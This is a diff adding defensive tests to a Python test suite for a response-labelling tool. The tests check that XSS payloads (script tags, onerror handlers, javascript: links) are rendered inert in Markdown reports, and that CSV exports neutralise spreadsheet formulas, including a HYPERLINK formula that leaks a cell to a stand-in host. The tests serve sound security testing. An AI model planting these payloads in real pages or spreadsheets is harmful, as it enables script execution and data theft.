@@ -846,3 +846,102 @@ def test_doctor_reports_missing_metrics_and_orphaned_human_labels(hostile_store,
         "adapter running (not finished, highest stored step 3): 1 step(s) without a metrics row: 2",
         f"run {kept['run_id']}: 2 human label(s) of responses no longer in responses (e.g. prompt gone-1)",
     }
+
+
+# -- untrusted text in files people open: Markdown rendered as HTML, CSV opened in a spreadsheet -------------------
+
+PAYLOADS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))",
+            "<javascript:alert(1)>", "`code` *em* _em_ | cell"]
+
+
+def _live_markup(rendered: str) -> list[str]:
+    """Tags and attributes in rendered HTML that run code or leave the page: scripts, event
+    handlers, javascript: links, and images other than the report's own figures."""
+    from html.parser import HTMLParser
+
+    found = []
+
+    class Tags(HTMLParser):
+        def handle_starttag(self, tag, attrs):
+            attributes = dict(attrs)
+            if tag in ("script", "iframe", "object", "embed"):
+                found.append(tag)
+            if tag == "img" and not (attributes.get("src") or "").endswith(".svg"):
+                found.append(f"img {attributes}")
+            found.extend(f"{tag} {name}" for name in attributes if name.startswith("on"))
+            found.extend(f"{tag} {name}={value}" for name, value in attributes.items()
+                         if name in ("href", "src") and (value or "").strip().lower().startswith("javascript"))
+
+    Tags().feed(rendered)
+    return found
+
+
+def test_untrusted_text_in_the_markdown_report_is_inert(hostile_store, tmp_path):
+    from markdown_it import MarkdownIt
+
+    from refusaldata.label import label
+
+    root = _copy(hostile_store, tmp_path)
+    store = Store(root)
+    texts = [row["text"] for row in store.read("prompts").to_pylist() if row["harmful"]][:4]
+    store.append("runs", pa.table({"run_id": ["payload-0123456789"], "name": [" ".join(PAYLOADS[:3])],
+                                   "model": [PAYLOADS[1]], "backend": ["import"]}))
+    store.append("responses", pa.table({
+        "run_id": ["payload-0123456789"] * len(texts), "prompt_id": [prompt_id(t) for t in texts],
+        "sample_index": pa.array([0] * len(texts), pa.int32()),
+        "response": [f"I'm sorry {PAYLOADS[i % len(PAYLOADS)]} but I can't help with that." for i in range(len(texts))],
+        "finish_reason": ["stop"] * len(texts)}))
+    label(store)
+    outcome = invoke(["report", "--out", tmp_path / "r.html", "--bootstrap", "20", "--store", root])
+    assert outcome.code == 0, outcome.stderr
+    markdown = (tmp_path / "r.md").read_text()
+    assert "payload-0123456789" in markdown and "&lt;script&gt;" in markdown
+    renderers = {"commonmark": MarkdownIt("commonmark", {"html": True}).enable("table").render,
+                 "gfm-like": MarkdownIt("gfm-like", {"html": True, "linkify": False}).render}
+    try:
+        import markdown as python_markdown  # MkDocs' renderer, where installed
+
+        renderers["python-markdown"] = lambda text: python_markdown.markdown(text, extensions=["tables"])
+    except ImportError:
+        pass
+    for name, render in renderers.items():
+        rendered = render(markdown)
+        assert _live_markup(rendered) == [], name
+        assert "alert(1)" in rendered, name  # shown as text, not dropped
+
+
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://x?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
+                                  "\t=1", "\r=1", "'=already quoted", "''@x", "'Tis plain", "plain = text"])
+def test_review_export_neutralises_formulas_and_import_restores_them_exactly(text, hostile_store, tmp_path):
+    from refusaldata.escape import FORMULA_LEAD
+
+    root = _copy(hostile_store, tmp_path)
+    store = Store(root)
+    responses = store.read("responses").to_pylist()
+    run = responses[0]["run_id"]
+    rows = [row for row in responses if row["run_id"] == run]
+    for row in rows:
+        row["response"] = text + " " + row["response"][:20]
+    run_folder = next((root / "responses").glob("run=*base*"))
+    shutil.rmtree(run_folder)
+    store = Store(root)
+    store.append("responses", pa.Table.from_pylist(rows, schema=store.read("responses").schema))
+    out = tmp_path / "review.csv"
+    exported = invoke(["review", "export", "--run", "base", "--labeler", "rules", "--budget", "40", "--output", out,
+                       "--store", root])
+    assert exported.code == 0, exported.stderr
+    with open(out, newline="", encoding="utf-8") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert not [cell for cell in cells if re.match(FORMULA_LEAD.replace("'*", ""), cell)], "a bare formula cell"
+    with open(out, newline="", encoding="utf-8") as handle:
+        reader = list(csv.DictReader(handle))
+    for row in reader:
+        row["human_verdict"] = "refusal"
+    with open(out, "w", newline="", encoding="utf-8") as handle:
+        writer = csv.DictWriter(handle, fieldnames=list(reader[0]))
+        writer.writeheader()
+        writer.writerows(reader)
+    imported = invoke(["review", "import", out, "--reviewer", "ana", "--store", root])
+    assert imported.code == 0, imported.stderr
+    human = [row for row in Store(root).read("labels").to_pylist() if row["labeler"] == "human"]
+    assert len(human) == len(reader)
